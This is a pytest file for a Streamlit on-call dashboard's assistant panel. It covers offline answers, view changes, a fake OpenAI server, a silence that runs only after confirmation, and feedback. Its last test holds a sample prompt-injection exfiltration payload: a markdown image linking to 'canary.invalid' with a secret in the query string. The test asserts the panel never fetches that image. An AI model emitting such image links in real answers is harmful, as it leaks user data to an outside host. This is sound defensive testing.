"""The assistant panel in the app, headless: offline answers, the view following a question,
the model path through a fake OpenAI server, and a proposed silence confirmed in the UI."""

from __future__ import annotations

from pathlib import Path

import pytest
import requests
from streamlit.testing.v1 import AppTest

from tests.conftest import default_store
from tests.fake_openai import fake_openai

ROUTER_PASS = {"content": "no JSON here"}  # the model router is asked first; this makes it use the rules
APP = str(Path(__file__).resolve().parents[1] / "app.py")


@pytest.fixture(autouse=True)
def env(app_env):
    return app_env


def app() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=90).run()
    assert not at.exception
    return at


def ask(at: AppTest, text: str) -> AppTest:
    at.chat_input(key="chat_input").set_value(text).run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def answers(at: AppTest) -> list[str]:
    return [
        m.value
        for m in at.markdown
        if m.value.startswith(("Window ", "기간 ", "I don't know", "모르겠습니다", "KubePod", "I proposed"))
    ]


def test_korean_question_on_the_current_window(monkeypatch):
    at = ask(app(), "지금 뭐가 울리고 있어? 다음에 뭘 확인해야 해?")
    text = answers(at)[-1]
    assert text.startswith("기간 ") and "KubePodCrashLooping" in text and "오프라인 답변" in text
    assert any(c.value.startswith("offline · offline@1 · 0+0 tokens · request ") for c in at.caption)
    assert at.selectbox(key="preset").value == "Last 1 hour"  # no time asked: the view stays


def test_a_question_about_another_time_moves_the_view():
    at = ask(app(), "11월 21일 오후 3시 얼럿 보여줘")
    assert at.selectbox(key="preset").value == "Custom range"
    start = at.session_state["custom_from"]
    assert (start.hour, at.session_state["custom_to"].hour) == (14, 15)
    assert at.title[0].value == "Alerts"  # the page for the question's action


def test_checkpoint_buttons_and_clear():
    at = app()
    at.button(key="checkpoint_2").click().run()
    assert "Flapping" in answers(at)[-1] or "flap" in answers(at)[-1].lower()
    at.button(key="chat_clear").click().run()
    assert answers(at) == []


def test_model_answer_streams_into_the_panel(monkeypatch):
    with fake_openai() as fake:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
        monkeypatch.setenv("OPENAI_BASE_URL", fake.url)
        fake.script = [
            ROUTER_PASS,
            {"content": "KubePodCrashLooping is firing on recommendation since 18:25 [1]. Check its pod events [6]."},
        ]
        at = ask(app(), "what is firing?")
        assert answers(at)[-1].startswith("KubePodCrashLooping is firing on recommendation")
        assert any(c.value.startswith("gpt-4o-mini · assistant_system@") for c in at.caption)
        assert any(e.label == "Sources (2)" for e in at.expander)


@pytest.mark.integration
def test_a_proposed_silence_runs_only_after_confirm(monkeypatch, alertmanager_url):
    monkeypatch.setenv("ALERTMANAGER_URL", alertmanager_url)
    comments = lambda: [s["comment"] for s in requests.get(f"{alertmanager_url}/api/v2/silences", timeout=5).json()]  # noqa: E731
    with fake_openai() as fake:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
        monkeypatch.setenv("OPENAI_BASE_URL", fake.url)
        call = {
            "name": "create_silence",
            "arguments": {
                "matchers": {"alertname": "KubePodCrashLooping"},
                "duration_minutes": 30,
                "comment": "recommendation rollback in progress",
            },
        }
        fake.script = [ROUTER_PASS, {"tool_calls": [call]}, {"content": "I proposed a 30 minute silence [1]."}]
        at = ask(app(), "silence the crash looping alert for 30 minutes")
    assert "recommendation rollback in progress" not in comments()
    assert any("Proposed: **create_silence**" in i.value for i in at.info)
    at.button(key="confirm_1_0").click().run()
    assert "recommendation rollback in progress" in comments()
    assert any(s.value.startswith("silence ") for s in at.success)


def test_feedback_and_escalation_are_stored_with_the_request_id():
    at = ask(app(), "What is firing now?")
    at.text_input(key="fb_comment_1").input("spot on").run()
    at.button(key="fb_helpful_1").click().run()
    store = default_store()
    answer = next(a for a in store.answers_between("0", "9") if a["question"] == "What is firing now?")
    rows = [f for f in store.feedback_rows() if f["request_id"] == answer["request_id"]]
    # Without sign-in the user is the anonymous local user (signed in: test_sign_in).
    assert [(r["rating"], r["comment"], r["user"]) for r in rows] == [("helpful", "spot on", "anonymous")]
    assert any(c.value == "Feedback: Helpful" for c in at.caption)
    at.button(key="escalate_1").click().run()
    message = next(c.value for c in at.code if "Escalation from the on-call dashboard" in c.value)
    assert "Question: What is firing now?" in message and answer["request_id"] in message
    assert any(f["escalated"] for f in store.feedback_rows() if f["request_id"] == answer["request_id"])


def test_an_image_in_a_model_answer_is_never_fetched(monkeypatch):
    """Prompt injection exfiltrates through images the browser loads: the panel shows their alt text only."""
    with fake_openai() as fake:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
        monkeypatch.setenv("OPENAI_BASE_URL", fake.url)
        fake.script = [ROUTER_PASS, {"content": "KubePod is firing [1]. ![status](http://canary.invalid/x?d=secret) done"}]
        at = ask(app(), "what is firing?")
    shown = " ".join(m.value for m in at.markdown)
    assert "canary.invalid" not in shown and "![" not in shown
    assert "[image: status]" in shown
